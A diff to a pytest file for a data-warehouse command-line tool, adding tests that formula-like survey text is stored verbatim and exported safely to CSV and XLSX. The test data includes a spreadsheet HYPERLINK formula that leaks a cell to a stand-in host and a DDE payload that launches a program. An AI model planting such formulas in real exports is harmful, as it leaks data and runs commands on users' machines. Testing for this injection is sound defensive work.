@@ -31,11 +31,11 @@ def _read(path, sep=",") -> list[list[str]]:
     return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""), delimiter=sep))
 
 
-def _write(rows: list[list[str]], sep=",", encoding="utf-8") -> bytes:
+def _write(rows: list[list[str]], sep=",", encoding="utf-8", quoting=csv.QUOTE_MINIMAL) -> bytes:
     if sep == "\t":  # tab-separated files are not quoted
         return "".join("\t".join(r) + "\n" for r in rows).encode(encoding)
     buf = io.StringIO(newline="")
-    csv.writer(buf, lineterminator="\n").writerows(rows)
+    csv.writer(buf, lineterminator="\n", quoting=quoting).writerows(rows)
     return buf.getvalue().encode(encoding)
 
 
@@ -409,3 +409,100 @@ def test_a_30_mb_register_loads_in_memory_bounded_by_its_size(tmp_path, warehous
     print(f"register: peak {peaks['small']:.0f} MiB for {peaks['small_bytes']} bytes, {peaks['big']:.0f} MiB "
           f"for {peaks['big_bytes']} bytes: {per_byte:.1f} bytes of memory per byte of file")
     assert per_byte < 16, peaks
+
+
+# --- formula-like text: kept as text in the warehouse, exported so that no spreadsheet runs it ---
+# tests/test_warehouse_cli.py covers =, +, -, @ in literals of a query; here the text arrives the way
+# an attacker would send it, inside a pulled file, and leading tab and carriage return are covered too.
+
+RISKY = {  # survey column: text a spreadsheet would run as a formula or a DDE command
+    "sector_en": '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
+    "sector_zh": "+86 10 5555 0100",
+    "support_band": "-2+3",
+    "note": "@SUM(A1:A9)",
+}
+RISKY_RAW = {"sector_en": "\t=1+1", "note": "\r=cmd|' /C calc'!A0"}   # cells the parser trims: raw keeps them
+
+
+def _risky_survey() -> bytes:
+    rows = SURVEY
+    for col, text in RISKY.items():
+        rows = edit(rows, 2, col, text)
+    for col, text in RISKY_RAW.items():
+        rows = edit(rows, 3, col, text)
+    return _write(rows, quoting=csv.QUOTE_ALL)   # a lone carriage return must be quoted to stay in its cell
+
+
+@pytest.fixture
+def risky_warehouse(tmp_path, warehouse_copy, data_copy, run_cli):
+    f = tmp_path / "risky.csv"
+    f.write_bytes(_risky_survey())
+    code, _, err = pull(run_cli, warehouse_copy, f, "survey_csv", name="risky-survey")
+    assert code == 0, err
+    return warehouse_copy
+
+
+def _export(run_cli, wh, table, to):
+    code, _, err = run_cli("warehouse", "export", f"SELECT * FROM {table} WHERE snapshot_id = 'risky-survey' "
+                           "ORDER BY source_row", "--to", to, "--warehouse", wh)
+    assert code == 0, err
+
+
+def test_formula_like_text_is_stored_as_sent(risky_warehouse):
+    from ngobrief import warehouse
+
+    con = warehouse.connect(risky_warehouse, read_only=True)
+    try:
+        staged = con.execute("SELECT sector_en, sector_zh, support_band, note FROM staging.survey_priorities "
+                             "WHERE snapshot_id = 'risky-survey' AND source_row = 2").fetchone()
+        raw = con.execute("SELECT sector_en, note FROM raw.survey_priorities "
+                          "WHERE snapshot_id = 'risky-survey' AND source_row = 3").fetchone()
+    finally:
+        con.close()
+    assert staged == tuple(RISKY.values())
+    assert raw == tuple(RISKY_RAW.values())
+
+
+def test_formula_like_text_exported_to_csv_starts_with_an_apostrophe(risky_warehouse, tmp_path, run_cli):
+    for table, row, risky in (("staging.survey_priorities", 0, RISKY), ("raw.survey_priorities", 1, RISKY_RAW)):
+        to = tmp_path / f"{table}.csv"
+        _export(run_cli, risky_warehouse, table, to)
+        got = list(csv.DictReader(io.StringIO(to.read_bytes().decode("utf-8-sig"), newline="")))[row]
+        assert {c: got[c] for c in risky} == {c: "'" + t for c, t in risky.items()}, table
+
+
+def test_formula_like_text_exported_to_xlsx_is_a_text_cell_not_a_formula(risky_warehouse, tmp_path, run_cli):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    for table, row, risky in (("staging.survey_priorities", 2, RISKY), ("raw.survey_priorities", 3, RISKY_RAW)):
+        to = tmp_path / f"{table}.xlsx"
+        _export(run_cli, risky_warehouse, table, to)
+        with zipfile.ZipFile(to) as z:
+            sheet = z.read("xl/worksheets/sheet1.xml").decode()
+        assert "<f>" not in sheet and "<f " not in sheet, table   # no cell holds a formula
+        ws = load_workbook(to).active
+        header = [c.value for c in ws[1]]
+        cells = dict(zip(header, ws[row]))
+        for col, text in risky.items():
+            text = text.replace("\r", "\n")   # XML reads a carriage return back as a line feed
+            assert (cells[col].value, cells[col].data_type, cells[col].quotePrefix) == (text, "s", True), (table, col)
+
+
+def test_a_column_named_like_a_formula_is_exported_as_text(warehouse_copy, tmp_path, run_cli):
+    from openpyxl import load_workbook
+
+    query = """SELECT 'x' AS "=HYPERLINK(""http://example.invalid"")", 'y' AS "@cmd" """
+    for suffix in ("csv", "xlsx"):
+        to = tmp_path / f"headers.{suffix}"
+        code, _, err = run_cli("warehouse", "export", query, "--to", to, "--warehouse", warehouse_copy)
+        assert code == 0, err
+        if suffix == "csv":
+            header = next(csv.reader(io.StringIO(to.read_bytes().decode("utf-8-sig"))))
+            assert header == ["'=HYPERLINK(\"http://example.invalid\")", "'@cmd"]
+        else:
+            cells = list(load_workbook(to).active[1])
+            assert [(c.value, c.data_type) for c in cells] == [
+                ('=HYPERLINK("http://example.invalid")', "s"), ("@cmd", "s")]
+            assert all(c.quotePrefix for c in cells)
